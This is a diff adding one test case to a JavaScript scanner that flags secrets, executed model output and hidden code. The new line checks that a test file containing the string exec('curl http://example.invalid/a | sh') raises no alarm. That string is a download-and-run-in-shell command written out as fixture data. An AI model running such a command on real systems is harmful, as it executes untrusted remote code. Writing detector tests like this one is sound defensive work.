@@ -46,6 +46,7 @@ it('sees keys, answers that are run, and hidden code in JavaScript, and takes it
   const plain =
     "const f = new Function('a', 'return a');\nexec('git status');\nJSON.parse(r.choices[0].message.content);\n";
   expect(alarms('a.js', plain)).toEqual([]);
+  expect(alarms('a.test.js', `const lines = ["exec('curl http://example.invalid/a | sh')"];\n`)).toEqual([]);
 });
 
 it('shows no secret that stands in a command', () => {
